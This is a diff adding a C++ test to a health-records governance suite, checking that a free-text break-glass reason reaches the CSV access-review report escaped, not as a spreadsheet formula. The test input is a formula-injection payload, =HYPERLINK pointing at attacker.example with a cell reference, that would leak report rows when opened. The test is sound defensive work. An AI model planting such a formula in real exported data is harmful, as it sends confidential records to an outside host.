@@ -181,6 +181,21 @@ TEST_F(GovernanceTest, AConsentTheRecordCannotKeepIsRefusedNotACrashNorA201) {
   EXPECT_EQ(total_of(encounters(trust)), 1) << "no dissent was recorded";
 }
 
+// A reader's free-text reason reaches the IG officer's CSV report as text, never as a spreadsheet
+// formula that could send the report's other rows to a web site when opened.
+TEST_F(GovernanceTest, AReviewReportCellIsNeverAFormula) {
+  ASSERT_FALSE(patient.empty());
+  // As JSON text: the reason is =HYPERLINK("http://attacker.example/?d="&F3,"open").
+  ASSERT_EQ(record_access(engine->http_port(), other, patient, "break-glass",
+                          R"(=HYPERLINK(\"http://attacker.example/?d=\"&F3,\"open\"))"),
+            200);
+  auto csv = http_get(engine->http_port(), "/admin/ig/access-reviews?_format=csv", ig);
+  ASSERT_EQ(csv.status, 200) << csv.body;
+  EXPECT_NE(csv.body.find("\"'=HYPERLINK(\"\"http://attacker.example/"), std::string::npos) << csv.body;
+  EXPECT_EQ(csv.body.find(",=HYPERLINK"), std::string::npos) << csv.body;
+  EXPECT_EQ(csv.body.find(",\"=HYPERLINK"), std::string::npos) << csv.body;
+}
+
 TEST_F(GovernanceTest, ADissentStopsSharingUntilWithdrawnAndBreakGlassStillOpensIt) {
   ASSERT_FALSE(patient.empty());
   const std::string colleague = issue("ae-clinician", "dr.rbt2", "RBT");
